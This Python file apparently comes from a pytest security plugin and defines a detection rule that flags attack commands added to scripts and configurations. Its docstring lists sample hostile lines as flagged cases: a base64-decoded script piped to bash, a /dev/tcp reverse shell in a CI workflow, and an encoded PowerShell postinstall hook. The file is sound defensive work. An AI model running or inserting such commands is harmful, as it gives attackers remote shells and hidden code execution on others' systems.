"""SMG260: a script or a configuration with a command made to attack."""

from __future__ import annotations

from collections.abc import Iterable

from pytest_selfmod_guard import paths
from pytest_selfmod_guard.model import Risk
from pytest_selfmod_guard.rules import Sighting, text_rule
from pytest_selfmod_guard.rules.danger._attacks import WORDS, attacks
from pytest_selfmod_guard.rules.danger._destructive import shell
from pytest_selfmod_guard.view import Side

_COMMENTS = ("#", "// ", "REM ", "-- ", "* ")


@text_rule(
    "SMG260",
    supersedes=("SMG230",),
    risk=Risk.CRITICAL,
    hint="download to a file, compare its SHA-256 with one that is written down, then run it; "
    "write commands in plain text, never encoded",
    triggers=WORDS,
)
def attack_command_in_text(side: Side) -> Iterable[Sighting]:
    """
    A script, a build file or a configuration gains a command that is made to attack.

    Encoded PowerShell, decoded scripts that are run, remote shells in one
    line, tools of Windows that fetch and run, switched-off protection, coin
    miners. Scripts straight from the network are for SMG202 to say, where it
    sees them. Prose and comments are silent.

    Flagged: a decoded script [critical]
        === scripts/setup.sh
        + echo ZWNobyBoaQo= | base64 -d | bash

    Flagged: a remote shell in CI [critical]
        === .github/workflows/ci.yml
        + - run: bash -i >& /dev/tcp/example.invalid/443 0>&1

    Flagged: encoded PowerShell [critical]
        === package.json
        + {"scripts": {"postinstall": "powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A"}}

    Allowed: plain downloads
        === scripts/setup.sh
        + curl -fsSLo tool.tar.gz https://example.invalid/tool.tar.gz
        + echo "$SUM  tool.tar.gz" | sha256sum --check
        + base64 -d secret.b64 > secret

    Allowed: prose
        === docs/threats.md
        + Attackers like `bash -i >& /dev/tcp/host/443`.
    """
    if paths.is_prose(side.path) and not side.is_executable:
        return
    is_test = side.zone == paths.TEST
    for number, line in enumerate(side.lines, 1):
        if line.lstrip().startswith(_COMMENTS):
            continue
        for attack in attacks(line)[:1]:
            if "straight from the network" not in attack.what or not shell(line):
                risk = Risk.MEDIUM if is_test else attack.risk
                what = f"the command {attack.what}"
                yield Sighting(number, what, " ".join(line.split())[:400], risk=risk)
